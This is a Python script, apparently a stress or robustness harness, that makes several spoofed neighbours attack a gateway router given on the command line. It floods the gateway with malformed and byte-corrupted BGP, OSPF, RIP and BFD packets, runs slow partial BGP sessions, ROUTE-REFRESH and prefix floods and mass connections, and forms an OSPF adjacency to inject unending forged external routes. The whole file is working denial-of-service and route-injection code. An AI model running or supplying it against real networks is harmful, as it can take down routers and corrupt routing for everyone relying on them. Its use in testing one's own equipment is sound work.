#!/usr/bin/env python3
"""Neighbours of a gateway that mean no good: harmful.py GATEWAY AS GATEWAY-AS SEED ROLE=ADDRESS...

Each role speaks from an address of its own, which the gateway has as a neighbour, until the program
is ended; every second it says what all of them did. Roles of BGP:

    noise       calls, sends what is no BGP, is called off, calls again
    broken      a session, then UPDATEs of which bytes are changed
    slow        a session byte by byte, ten a second, and an UPDATE that never is whole
    endless     a session, then new prefixes as fast as they are taken; what comes is not read
    again       a session, then ROUTE-REFRESH without end
    crowd       connections, as many as are taken, and no word

ospf, rip and bfd send what looks like their protocol and is not, and what is right but for some bytes,
to the groups or the port of it; rip goes on with prefixes without end. adjacent becomes a neighbour of
OSPF as it should, and then has new external routes without end.
"""
import collections
import random
import socket
import struct
import sys
import threading
import time

GATEWAY, OUR_AS, THEIR_AS = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
RANDOM = random.Random(int(sys.argv[4]))
DONE = collections.Counter()
MARKER = b"\xff" * 16
OPEN, UPDATE, KEEPALIVE, REFRESH = 1, 2, 4, 5
PAUSE_S = 0.005  # of who would else take a whole core
CROWD = 300
EXTERNALS = 30  # of an update


def message(kind, body=b""):
    return MARKER + struct.pack("!HB", 19 + len(body), kind) + body


def open_message(address):
    capabilities = b"\x01\x04\x00\x01\x00\x01" + b"\x02\x00" + b"\x41\x04" + struct.pack("!I", OUR_AS)
    parameter = bytes([2, len(capabilities)]) + capabilities
    body = struct.pack("!BHH", 4, OUR_AS, 90) + socket.inet_aton(address)
    return message(OPEN, body + bytes([len(parameter)]) + parameter)


def update(address, prefixes):
    attributes = b"\x40\x01\x01\x00" + b"\x40\x02\x06\x02\x01" + struct.pack("!I", OUR_AS)
    attributes += b"\x40\x03\x04" + socket.inet_aton(address)
    routes = b"".join(bytes([24]) + struct.pack("!I", prefix)[:3] for prefix in prefixes)
    return message(UPDATE, b"\0\0" + struct.pack("!H", len(attributes)) + attributes + routes)


def some_prefix():
    """Of networks that nobody else has."""
    return RANDOM.randrange(20 << 24, 100 << 24)


def some_bytes(least, most):
    return RANDOM.randbytes(RANDOM.randint(least, most))


def changed(data, first, most=4):
    """The same with some bytes of it changed, those before first left alone."""
    data = bytearray(data)
    for _ in range(RANDOM.randint(1, most)):
        data[RANDOM.randrange(first, len(data))] = RANDOM.randrange(256)
    return bytes(data)


# ---- BGP -------------------------------------------------------------------------------------

def call(address):
    caller = socket.socket()
    caller.settimeout(5)
    caller.bind((address, 0))
    caller.connect((GATEWAY, 179))
    return caller


def establish(address):
    """A session as it should be; what comes of the other side is looked at no further."""
    caller = call(address)
    caller.sendall(open_message(address))
    caller.recv(4096)
    caller.sendall(message(KEEPALIVE))
    caller.recv(4096)
    return caller


def noise(address):
    with call(address) as caller:
        for _ in range(RANDOM.randint(1, 20)):
            caller.sendall(some_bytes(1, 3000))
            DONE["noise"] += 1
            time.sleep(PAUSE_S)
        caller.recv(4096)


def broken(address):
    whole = update(address, [some_prefix() for _ in range(20)])
    with establish(address) as caller:
        while True:
            caller.sendall(changed(whole, RANDOM.choice((0, 16, 19, 23))))
            DONE["broken"] += 1
            time.sleep(PAUSE_S)


def slow(address):
    stream = open_message(address) + message(KEEPALIVE)
    endless_update = MARKER + struct.pack("!HB", 4096, UPDATE)
    with call(address) as caller:
        for byte in stream + endless_update + bytes(3000):
            caller.sendall(bytes([byte]))
            DONE["slow"] += 1
            time.sleep(0.1)


def endless(address):
    with establish(address) as caller:
        while True:
            caller.sendall(update(address, [some_prefix() for _ in range(900)]))
            DONE["endless"] += 1
            time.sleep(PAUSE_S)


def again(address):
    with establish(address) as caller:
        while True:
            caller.sendall(message(REFRESH, b"\0\x01\0\x01") * 50)
            DONE["again"] += 50
            time.sleep(PAUSE_S)


def crowd(address):
    callers = []
    try:
        for _ in range(CROWD):
            callers.append(call(address))
            DONE["crowd"] += 1
        time.sleep(2)
    finally:
        for caller in callers:
            caller.close()


# ---- the others --------------------------------------------------------------------------------

def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ospf_packet(kind, address, body):
    """With a checksum that is right, and no authentication."""
    head = struct.pack("!BBH4sI", 2, kind, 24 + len(body), socket.inet_aton(address), 0)
    return head + struct.pack("!HH8s", checksum(head + b"\0" * 4 + body), 0, b"") + body


def lsa(address):
    return struct.pack("!HBB4s4sIHH", RANDOM.randrange(3600), 2, RANDOM.randint(0, 11),
                       RANDOM.randbytes(4), socket.inet_aton(address), RANDOM.getrandbits(32),
                       RANDOM.getrandbits(16), RANDOM.randint(0, 100)) + some_bytes(0, 60)


def ospf_body(kind, address):
    if kind == 1:
        return struct.pack("!4sHBBI4s4s4s", b"\xff\xff\xff\0", 1, 2, 1, 4, b"\0" * 4, b"\0" * 4,
                           socket.inet_aton("192.0.2.1"))
    if kind == 2:
        return struct.pack("!HBBI", 1500, 2, RANDOM.randrange(8), RANDOM.getrandbits(32)) + lsa(address)[:20]
    if kind == 3:
        return RANDOM.randbytes(12 * RANDOM.randint(0, 50))
    if kind == 4:
        return struct.pack("!I", RANDOM.choice((1, 3, 2 ** 31))) + lsa(address) * RANDOM.randint(1, 10)
    return lsa(address)[:20] * RANDOM.randint(1, 20)


def fletcher(data):
    """The checksum of an LSA whose own lies at 14 and is zero here (RFC 2328, section 12.1.7)."""
    first = second = 0
    for byte in data:
        first = (first + byte) % 255
        second = (second + first) % 255
    high = ((len(data) - 15) * first - second) % 255
    return bytes([high or 255, (-high - first) % 255 or 255])


def own_lsa(kind, ident, address, number, body):
    """An LSA that is right: what a router with this address says the number-th time."""
    said = bytearray(struct.pack("!HBB4s4sIHH", 0, 2, kind, ident, socket.inet_aton(address),
                                 0x80000001 + number, 0, 20 + len(body)) + body)
    said[16:18] = fletcher(said[2:])
    return bytes(said)


def update_of(address, lsas):
    return ospf_packet(4, address, struct.pack("!I", len(lsas)) + b"".join(lsas))


def new_externals(address, number):
    body = struct.pack("!IIII", 0xFFFFFF00, 20, 0, 0)
    prefixes = [struct.pack("!I", some_prefix() & 0xFFFFFF00) for _ in range(EXTERNALS)]
    return update_of(address, [own_lsa(5, prefix, address, number, body) for prefix in prefixes])


def headers_in(update_body):
    at, found = 4, b""
    while at + 20 <= len(update_body):
        found += update_body[at:at + 20]
        at += max(20, struct.unpack("!H", update_body[at + 18:at + 20])[0])
    return found


class Adjacent:
    """The master of an exchange with the designated router, which it has nothing to tell."""

    def __init__(self, address, sock):
        self.address, self.sock = address, sock
        self.number, self.starting, self.full = RANDOM.getrandbits(16), True, False

    def send(self, kind, body):
        self.sock.sendto(ospf_packet(kind, self.address, body), (GATEWAY, 0))

    def describe(self, flags):
        self.send(2, struct.pack("!HBBI", 1500, 2, flags, self.number))

    def hello(self):
        gateway = socket.inet_aton(GATEWAY)
        self.send(1, struct.pack("!4sHBBI4s4s4s", b"\xff\xff\xff\0", 1, 2, 0, 4, gateway, b"\0" * 4,
                                 socket.inet_aton("192.0.2.1")))
        if self.starting:
            self.describe(7)

    def hear(self, kind, body):
        if kind == 4:
            self.send(5, headers_in(body))
        if kind != 2:
            return
        flags, number = body[3], struct.unpack("!I", body[4:8])[0]
        if flags & 4 and self.full:
            self.starting, self.full, self.number = True, False, self.number + 9
        elif not flags & 1 and number == self.number:
            self.full = not self.starting and not flags & 2
            if not self.full:
                self.starting, self.number = False, self.number + 1
                self.describe(1)
            else:
                link = struct.pack("!BBH4s4sBBH", 2, 0, 1, socket.inet_aton(GATEWAY),
                                   socket.inet_aton(self.address), 2, 0, 10)
                own = socket.inet_aton(self.address)
                self.sock.sendto(update_of(self.address, [own_lsa(1, own, self.address, self.number, link)]),
                                 (GATEWAY, 0))


def adjacent(address):
    with group_socket(socket.SOCK_RAW, 89, address, 1) as sock:
        sock.bind((address, 0))
        sock.settimeout(PAUSE_S)
        nbr, said = Adjacent(address, sock), 0
        while True:
            if time.monotonic() - said > 1:
                nbr.hello()
                said = time.monotonic()
            try:
                packet, origin = sock.recvfrom(2048)
                if origin[0] == GATEWAY:
                    nbr.hear(packet[21], packet[44:])
            except TimeoutError:
                pass
            if nbr.full:
                sock.sendto(new_externals(address, 0), (GATEWAY, 0))
                DONE["adjacent"] += EXTERNALS


def group_socket(kind, protocol, address, ttl):
    sock = socket.socket(socket.AF_INET, kind, protocol)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, ttl)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, ttl)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(address))
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    return sock


def ospf(address):
    with group_socket(socket.SOCK_RAW, 89, address, 1) as sock:
        sock.bind((address, 0))
        while True:
            kind = RANDOM.randint(1, 5)
            body = ospf_body(kind, address)
            packet = RANDOM.choice((
                lambda: some_bytes(0, 1400),
                lambda: ospf_packet(kind, address, body),
                lambda: ospf_packet(kind, address, changed(body, 0) if body else b""),
                lambda: changed(ospf_packet(kind, address, body), 0)))()
            sock.sendto(packet, (RANDOM.choice(("224.0.0.5", "224.0.0.6", GATEWAY)), 0))
            DONE["ospf"] += 1
            time.sleep(PAUSE_S)


def rip(address):
    with group_socket(socket.SOCK_DGRAM, 0, address, 1) as sock:
        sock.bind((address, 520))
        while True:
            entries = b"".join(struct.pack("!HHIIII", 2, 0, some_prefix() & 0xFFFFFF00, 0xFFFFFF00,
                                           0, RANDOM.randint(0, 17)) for _ in range(25))
            packet = RANDOM.choice((
                lambda: some_bytes(0, 600),
                lambda: b"\x02\x02\0\0" + entries,
                lambda: changed(b"\x02\x02\0\0" + entries, 0),
                lambda: b"\x01\x02\0\0" + entries))()
            sock.sendto(packet, (RANDOM.choice(("224.0.0.9", GATEWAY)), 520))
            DONE["rip"] += 1
            time.sleep(PAUSE_S)


def bfd(address):
    with group_socket(socket.SOCK_DGRAM, 0, address, 255) as sock:
        sock.bind((address, RANDOM.randint(49152, 65535)))
        while True:
            whole = struct.pack("!BBBBIIIII", 0x20, RANDOM.randrange(4) << 6, RANDOM.randrange(256), 24,
                                RANDOM.getrandbits(32), RANDOM.choice((0, RANDOM.getrandbits(32))),
                                100000, 100000, 0)
            packet = RANDOM.choice((lambda: some_bytes(0, 100), lambda: whole,
                                    lambda: changed(whole, 0)))()
            sock.sendto(packet, (GATEWAY, 3784))
            DONE["bfd"] += 1
            time.sleep(PAUSE_S)


ROLES = {role.__name__: role for role in (noise, broken, slow, endless, again, crowd, ospf, rip, bfd,
                                         adjacent)}


def act(role, address):
    """Whatever it is refused, it tries again."""
    while True:
        try:
            ROLES[role](address)
        except OSError:
            DONE[role + "-refused"] += 1
            time.sleep(0.05)


def main():
    for word in sys.argv[5:]:
        threading.Thread(target=act, args=word.split("="), daemon=True).start()
    while True:
        time.sleep(1)
        print(" ".join(f"{name}={count}" for name, count in sorted(DONE.items())), flush=True)


if __name__ == "__main__":
    main()
